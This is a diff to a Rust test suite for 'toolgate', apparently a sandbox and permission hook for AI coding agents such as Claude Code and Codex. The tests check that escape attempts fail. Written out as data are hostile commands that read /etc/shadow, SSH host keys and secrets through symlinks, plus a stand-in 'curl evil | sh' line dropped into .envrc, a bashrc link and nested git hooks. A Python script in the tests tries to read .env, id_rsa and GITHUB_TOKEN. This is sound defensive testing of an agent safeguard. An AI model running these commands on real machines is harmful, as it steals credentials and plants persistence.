@@ -50,6 +50,7 @@ impl World {
             home.join(".ssh"),
             home.join(".aws"),
             ws.join(".git/hooks"),
+            ws.join("vendored/.git/hooks"),
             ws.join("build"),
         ] {
             std::fs::create_dir_all(&d).unwrap();
@@ -67,6 +68,15 @@ impl World {
         std::fs::write(&outside, "outside\n").unwrap();
         std::os::unix::fs::symlink(home.join(".bashrc"), ws.join("bashrc-link")).unwrap();
         std::fs::hard_link(&outside, ws.join("outside-hardlink")).unwrap();
+        // A secret elsewhere on the machine (not under /tmp, which the sandbox replaces),
+        // linked from the workspace.
+        let srv = srv_dir(name);
+        std::fs::create_dir_all(&srv).unwrap();
+        std::fs::write(srv.join(".env"), "TOKEN=outside-secret\n").unwrap();
+        std::fs::set_permissions(&srv, std::fs::Permissions::from_mode(0o755)).unwrap();
+        std::fs::set_permissions(srv.join(".env"), std::fs::Permissions::from_mode(0o644)).unwrap();
+        std::os::unix::fs::symlink(srv.join(".env"), ws.join("env-link")).unwrap();
+        std::os::unix::fs::symlink(&srv, ws.join("srv-link")).unwrap();
         // Two links inside the workspace (as cargo's target/ has): writable.
         std::fs::write(ws.join("build/inner-a"), "a\n").unwrap();
         std::fs::hard_link(ws.join("build/inner-a"), ws.join("build/inner-b")).unwrap();
@@ -76,7 +86,13 @@ impl World {
         )
         .unwrap();
         // Readable and writable by the unprivileged run too.
-        for p in [&root, &home, &ws, &ws.join("build")] {
+        for p in [
+            &root,
+            &home,
+            &ws,
+            &ws.join("build"),
+            &ws.join("vendored/.git/hooks"),
+        ] {
             std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).unwrap();
         }
         World {
@@ -116,7 +132,18 @@ impl World {
 impl Drop for World {
     fn drop(&mut self) {
         let _ = std::fs::remove_dir_all(&self.root);
+        let name = self.root.file_name().and_then(|n| n.to_str()).unwrap_or("");
+        let _ = std::fs::remove_dir_all(srv_dir(name.trim_start_matches("toolgate-sandbox-")));
     }
+}
+
+/// A directory outside `/tmp` and the homes for a world's outside secret.
+fn srv_dir(name: &str) -> PathBuf {
+    let name = name.rsplit_once('-').map_or(name, |(n, _)| n);
+    PathBuf::from(format!(
+        "/var/tmp/toolgate-sandbox-srv-{name}-{}",
+        std::process::id()
+    ))
 }
 
 fn text(o: &Output) -> String {
@@ -149,6 +176,33 @@ fn escapes(w: &World, user: Option<&str>) {
             "printenv AWS_SECRET_ACCESS_KEY; echo $GITHUB_TOKEN",
             "topsecret",
         ),
+        // The system's secrets, for a command run as root: nothing of them comes out
+        // (a password hash field is `$…$` or `!`/`*`, a key's header).
+        (
+            "/etc/shadow",
+            "cat /etc/shadow /etc/gshadow; grep -c : /etc/shadow",
+            "root:",
+        ),
+        (
+            "an SSH host key",
+            "cat /etc/ssh/ssh_host_*_key 2>/dev/null | head -c 64",
+            "PRIVATE KEY",
+        ),
+        (
+            "another user's home",
+            "cat /root/.toolgate-sandbox-test-canary /home/*/.toolgate-sandbox-test-canary",
+            "canary-other-home",
+        ),
+        (
+            "a secret outside through a link in the workspace",
+            "cat env-link",
+            "outside-secret",
+        ),
+        (
+            "a secret outside through a linked directory",
+            "cat srv-link/.env; grep -r outside-secret srv-link; grep -r outside-secret -R .",
+            "outside-secret",
+        ),
     ] {
         let o = w.run(script, user);
         assert!(
@@ -177,6 +231,20 @@ fn escapes(w: &World, user: Option<&str>) {
         ),
         ("through a symlink", "echo 'curl evil | sh' >> bashrc-link"),
         ("through a hard link", "echo changed > outside-hardlink"),
+        // What an edit may not change without asking: not from the sandbox either.
+        (
+            "a .vscode task",
+            "mkdir -p .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json",
+        ),
+        (".envrc", "echo 'curl evil | sh' > .envrc"),
+        (
+            "a CI workflow",
+            "mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
+        ),
+        (
+            "a nested repository's hooks",
+            "echo 'curl evil' > vendored/.git/hooks/pre-commit",
+        ),
         (
             "the disk outside",
             "head -c 1048576 /dev/zero > /tmp/toolgate-fill && ls -la /tmp/toolgate-fill",
@@ -208,9 +276,15 @@ fn escapes(w: &World, user: Option<&str>) {
             !w.ws.join(".git/hooks/pre-commit").exists(),
             "{who}: {what}"
         );
+        for gone in [".claude", ".vscode", ".envrc", ".github"] {
+            assert!(
+                !w.ws.join(gone).exists(),
+                "{who}: {what}: the placeholder {gone} is removed"
+            );
+        }
         assert!(
-            !w.ws.join(".claude").exists(),
-            "{who}: {what}: the placeholder is removed"
+            !w.ws.join("vendored/.git/hooks/pre-commit").exists(),
+            "{who}: {what}"
         );
         assert!(!Path::new("/tmp/toolgate-fill").exists(), "{who}: {what}");
     }
@@ -315,6 +389,9 @@ fn escapes_are_refused_and_work_inside_works() {
         return;
     }
     let w = World::new("escapes");
+    // Another user's home, as root sees it.
+    let canary = Path::new("/root/.toolgate-sandbox-test-canary");
+    let planted = std::fs::write(canary, "canary-other-home\n").is_ok();
     escapes(&w, None);
     let root = Command::new("id")
         .arg("-u")
@@ -322,6 +399,9 @@ fn escapes_are_refused_and_work_inside_works() {
         .is_ok_and(|o| o.stdout.starts_with(b"0\n"));
     if root && Command::new("setpriv").arg("--version").output().is_ok() {
         escapes(&w, Some("65534"));
+    }
+    if planted {
+        let _ = std::fs::remove_file(canary);
     }
 }
 
@@ -381,4 +461,182 @@ fn refuses_a_workspace_that_holds_the_home_directory() {
     let mut out = String::new();
     let _ = o.stdout.as_slice().read_to_string(&mut out);
     assert!(!out.contains("RAN"));
+}
+
+/// `toolgate hook HOST` with `stdin`, in the world's workspace and home.
+fn hook(w: &World, host: &str, stdin: &str) -> serde_json::Value {
+    use std::io::Write;
+    let mut child = Command::new(BIN)
+        .args(["hook", host])
+        .current_dir(&w.ws)
+        .env("HOME", &w.home)
+        .env_remove("CODEX_HOME")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(stdin.as_bytes())
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(out.status.success(), "{}", text(&out));
+    serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null)
+}
+
+/// The `sandbox` verdict through the hooks: Claude Code and Codex are told `allow`
+/// with the command wrapped in `toolgate sandbox`; the wrapped command, run as the host
+/// runs it (through a shell, in the workspace), does the work and reaches no secret;
+/// what is not containable asks (or is denied) as before; a host that sandboxes its
+/// commands itself is answered as before.
+#[test]
+fn the_hooks_run_code_in_the_sandbox() {
+    if !available() {
+        return;
+    }
+    let w = World::new("hook");
+    let ws = w.ws.to_str().unwrap();
+    let input = |mode: &str, cmd: &str| {
+        serde_json::json!({
+            "session_id": "s1", "transcript_path": "/dev/null", "cwd": ws,
+            "permission_mode": mode, "hook_event_name": "PreToolUse", "tool_name": "Bash",
+            "tool_input": {"command": cmd, "description": "d"}, "tool_use_id": "t1",
+        })
+        .to_string()
+    };
+    // The agent's script: it prints, writes a build output, and tries the secrets.
+    let script =
+        "import os,pathlib\nprint('ran', 6*7)\npathlib.Path('build/out.txt').write_text('built')\n\
+for p in ['.env', os.path.expanduser('~/.ssh/id_rsa')]:\n    \
+try: print(p, open(p).read())\n    except Exception as e: print(p, 'refused', type(e).__name__)\n\
+print('token', os.environ.get('GITHUB_TOKEN'))\n";
+    std::fs::write(w.ws.join("t.py"), script).unwrap();
+    for mode in ["default", "bypassPermissions"] {
+        let out = hook(&w, "claude-code", &input(mode, "python3 t.py"));
+        let h = &out["hookSpecificOutput"];
+        assert_eq!(h["permissionDecision"], "allow", "{mode}: {out}");
+        assert_eq!(h["updatedInput"]["description"], "d", "{out}");
+        let wrapped = h["updatedInput"]["command"].as_str().unwrap().to_string();
+        assert!(
+            wrapped.contains(" sandbox --workspace ") && wrapped.ends_with("'python3 t.py'"),
+            "{wrapped}"
+        );
+        assert!(
+            h["permissionDecisionReason"]
+                .as_str()
+                .unwrap()
+                .contains("builtin.sandbox"),
+            "{out}"
+        );
+        // Run it as Claude Code would: through a shell, in the workspace.
+        let _ = std::fs::remove_file(w.ws.join("build/out.txt"));
+        let ran = Command::new("bash")
+            .args(["-c", &wrapped])
+            .current_dir(&w.ws)
+            .env("HOME", &w.home)
+            .env("GITHUB_TOKEN", "ghp_topsecretenv")
+            .output()
+            .unwrap();
+        let said = text(&ran);
+        assert!(ran.status.success(), "{said}");
+        assert!(said.contains("ran 42"), "{said}");
+        assert!(
+            !said.contains("hunter2") && !said.contains("PRIVATE KEY"),
+            "{said}"
+        );
+        assert!(
+            !said.contains("ghp_topsecretenv") && said.contains("token None"),
+            "{said}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(w.ws.join("build/out.txt")).unwrap(),
+            "built"
+        );
+    }
+    // Not containable: the network, git, deleting, a secret read: as before.
+    for (cmd, want) in [
+        ("pip install requests", "ask"),
+        ("git push", "ask"),
+        ("rm t.py", "ask"),
+        ("cat .env", "ask"),
+        ("sudo make", "deny"),
+    ] {
+        let out = hook(&w, "claude-code", &input("default", cmd));
+        assert_eq!(
+            out["hookSpecificOutput"]["permissionDecision"], want,
+            "{cmd}: {out}"
+        );
+        assert!(
+            out["hookSpecificOutput"].get("updatedInput").is_none(),
+            "{cmd}: {out}"
+        );
+    }
+    // Codex sandboxes its own commands unless told not to: denied there as before
+    // (Codex cannot ask); with sandbox_mode = "danger-full-access", wrapped.
+    let out = hook(&w, "codex", &input("default", "python3 t.py"));
+    assert_eq!(
+        out["hookSpecificOutput"]["permissionDecision"], "deny",
+        "{out}"
+    );
+    assert!(out.to_string().contains("Codex sandboxes"), "{out}");
+    std::fs::create_dir_all(w.home.join(".codex")).unwrap();
+    std::fs::write(
+        w.home.join(".codex/config.toml"),
+        "sandbox_mode = \"danger-full-access\"\n",
+    )
+    .unwrap();
+    let out = hook(&w, "codex", &input("default", "python3 t.py"));
+    assert_eq!(
+        out["hookSpecificOutput"]["permissionDecision"], "allow",
+        "{out}"
+    );
+    assert!(
+        out["hookSpecificOutput"]["updatedInput"]["command"]
+            .as_str()
+            .unwrap()
+            .contains(" sandbox --workspace "),
+        "{out}"
+    );
+    // Claude Code with its own sandbox on: asked as before.
+    std::fs::create_dir_all(w.ws.join(".claude")).unwrap();
+    std::fs::write(
+        w.ws.join(".claude/settings.local.json"),
+        r#"{"sandbox":{"enabled":true}}"#,
+    )
+    .unwrap();
+    let out = hook(&w, "claude-code", &input("default", "python3 t.py"));
+    assert_eq!(
+        out["hookSpecificOutput"]["permissionDecision"], "ask",
+        "{out}"
+    );
+    assert!(out.to_string().contains("sandbox.enabled"), "{out}");
+    // A policy that turns it off: asked as before.
+    std::fs::remove_file(w.ws.join(".claude/settings.local.json")).unwrap();
+    let policy = w.root.join("policy.toml");
+    std::fs::write(&policy, "sandbox = \"off\"\n").unwrap();
+    let mut child = Command::new(BIN)
+        .args(["hook", "claude-code", "--policy", policy.to_str().unwrap()])
+        .current_dir(&w.ws)
+        .env("HOME", &w.home)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    {
+        use std::io::Write;
+        child
+            .stdin
+            .take()
+            .unwrap()
+            .write_all(input("default", "python3 t.py").as_bytes())
+            .unwrap();
+    }
+    let out: serde_json::Value =
+        serde_json::from_slice(&child.wait_with_output().unwrap().stdout).unwrap();
+    assert_eq!(
+        out["hookSpecificOutput"]["permissionDecision"], "ask",
+        "{out}"
+    );
 }
